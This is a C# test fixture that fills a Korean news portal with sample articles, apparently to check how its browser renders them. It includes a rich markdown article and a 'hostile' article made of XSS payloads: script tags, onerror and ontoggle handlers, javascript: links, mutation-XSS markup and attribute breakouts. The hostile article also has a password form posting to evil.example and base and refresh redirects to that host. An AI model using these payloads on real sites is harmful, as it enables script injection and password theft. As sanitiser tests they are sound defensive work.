using System.Text.Json;

namespace PrismPortal.BrowserTests;

/// <summary>Articles the tests fill a site with: a list of two pages, one with every kind of block, one that attacks.</summary>
internal static class SampleArticles
{
    public const string EverythingSlug = "everything";
    public const string HostileSlug = "hostile";
    public const string ArchivePath = "/archive/2026/01";

    private const string Everything = """
        # 바다 밑의 길

        대륙 사이의 데이터는 케이블을 지난다.[^1] HBM 가격과는 다르다.

        :::takeaways
        - **길:** 바다 밑에 있다.
        - **굵기:** 손가락만 하다.
        :::

        ## Deep Dive: 누가 놓는가

        | 해 | 길이 | |
        |:--:|----:|---|
        | 2020 | 1,000 | 긴 표는 옆으로 움직인다 |

        - [x] 설계
        - [ ] 부설

        ```csharp
        public sealed class Cable { public int Length { get; init; } = 1_000; } // 한 줄이 길면 옆으로 움직인다
        ```

        ![항구](https://example.org/harbour.jpg)

        :::timeline
        - **1858년** 첫 전신 케이블
        :::

        :::quote 기록
        길은 바다 밑에 있다.
        :::

        ## PRISM Insight

        :::insight 투자 관점: 선은 누구의 것인가
        놓은 회사가 대역을 가진다.
        :::

        :::insight 비즈니스 관점: 끊기면 돌아간다
        길이 둘이면 하나가 끊겨도 된다.
        :::

        :::sources
        - [국제기구](https://www.itu.int/)
        :::

        [^1]: 공개 자료를 따랐다.

        *[HBM]: High Bandwidth Memory
        """;

    private const string Hostile = """
        <script>window.canary = 1; alert(1)</script>
        <img src=x1 onerror="window.canary = 2">
        <a href="javascript:window.canary=3">하나</a> [둘](javascript:alert(4)) [셋](data:text/html,<script>alert(5)</script>)
        <svg onload="window.canary = 6"><script>alert(7)</script></svg>
        <math><mtext></p><img src=x2 onerror="window.canary = 8"></mtext></math>
        <iframe srcdoc="<script>parent.canary = 9</script>"></iframe>
        <form action="//evil.example"><input name="password"><button>x</button></form>
        <style>body { display: none }</style><p style="position: fixed">넷</p>
        <noscript><p title="</noscript><img src=x3 onerror='window.canary = 10'>"></noscript>
        <details open ontoggle="window.canary = 11"><summary>다섯</summary>여섯</details>
        </div></main></body></html><div id="main" class="masthead" data-block="x">일곱
        <base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel="stylesheet" href="//evil.example">
        """;

    public static string Lines() => string.Join('\n', All().Select(article => JsonSerializer.Serialize(article)));

    private static IEnumerable<object> All()
    {
        for (var number = 1; number <= 25; number++)
        {
            yield return new
            {
                id = $"ko-{number}",
                title = $"바다의 소식 {number}",
                body = $"본문 {number}. 배는 항구를 떠났다.",
                summary = "항구에서 보낸 짧은 소식이다.",
                category = number % 2 == 0 ? "바다" : "Tech",
                author = "한서진",
                tags = new[] { "항구", "배" },
                publishedAt = FormattableString.Invariant($"2026-01-{number:00}T09:00:00+09:00"),
            };
        }

        yield return new { id = "en-1", title = "News from the harbour", body = "The ship has left.", category = "Tech", language = "en", author = "Han Seojin", publishedAt = "2026-01-02" };
        yield return new
        {
            id = "all",
            slug = EverythingSlug,
            title = "바다 밑의 길",
            body = Everything,
            summary = "대륙은 케이블로 이어진다.",
            category = "Tech",
            author = "한서진",
            tags = new[] { "항구", "케이블" },
            source = "국제기구",
            sourceUrl = "https://www.itu.int/",
            publishedAt = "2026-02-01",
        };
        yield return new { id = "hostile", slug = HostileSlug, title = "</title><script>window.canary = 12</script>", body = Hostile, summary = "\" onmouseover=\"canary=13", publishedAt = "2026-02-02" };
    }
}
